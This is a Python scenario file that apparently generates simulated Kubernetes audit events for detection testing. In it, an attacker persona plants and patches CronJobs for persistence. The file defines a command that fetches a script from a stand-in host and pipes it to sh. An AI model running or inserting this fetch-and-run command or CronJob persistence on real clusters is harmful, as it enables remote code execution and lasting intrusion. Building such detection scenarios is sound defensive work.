"""Jobs that come back by themselves."""

import json

from recorder.objects import cron_job, pod_spec
from recorder.people import BOB, MALLORY, PIPELINE, WEB
from recorder.scenario import scenario
from recorder.stage import Stage

FETCH = ["sh", "-c", "wget -qO- https://updates.contoso-cdn.example/run | sh"]
REPORT = "registry.contoso.example/shop/report:2.3"


@scenario(
    title="A cron job keeps somebody's code coming back",
    use_case="pod-security",
    techniques=["T1053.007", "T1610"],
    detect="a CronJob made or changed by a person, above all in kube-system, and jobs made from it by hand",
    honesty="The cron jobs' own runs are not part of the story: their schedules go by a real clock, of which an hour "
    "here is half a minute.",
)
def play(stage: Stage) -> None:
    """Mallory makes a CronJob in kube-system that fetches a script each night and runs it, starts it once by hand, and
    changes the command of the shop's report. A script with the front end's stolen token is refused a CronJob of its
    own. The pipeline deploys a CronJob from the approved registry, and Bob runs the report by hand.
    """
    stage.at("09:05:35")
    cleaning = pod_spec("registry.contoso.example/shop/cleaner:1.1", "cleaner")
    stage.play_as(PIPELINE).create(cron_job("cleaner", "shop", "40 2 * * *", cleaning))
    stage.at("09:12:25")
    stage.play_as(BOB).kubectl("create", "job", "report-now", "-n", "shop", "--from=cronjob/report")

    stage.at("09:18:30")
    script = stage.play_as(WEB, address="203.0.113.66", agent="python-requests/2.32.5")
    fetcher = pod_spec("docker.io/library/alpine:3.22", command=FETCH)
    script.create(cron_job("cache", "shop", "*/10 * * * *", fetcher), refused=403)

    mallory = stage.play_as(MALLORY)
    stage.at("09:27:15")
    mallory.kubectl("apply", "-f", "-", given=cron_job("node-update-check", "kube-system", "17 3 * * *", fetcher))
    stage.at("09:28:40")
    by_hand = ["create", "job", "node-update-check-1", "--from=cronjob/node-update-check"]
    mallory.kubectl(*by_hand, "-n", "kube-system")

    stage.at("09:42:50")
    container = {"name": "report", "image": REPORT, "command": FETCH}
    spec = {"jobTemplate": {"spec": {"template": {"spec": {"containers": [container]}}}}}
    mallory.kubectl("patch", "cronjob", "report", "-n", "shop", "--patch", json.dumps({"spec": spec}))
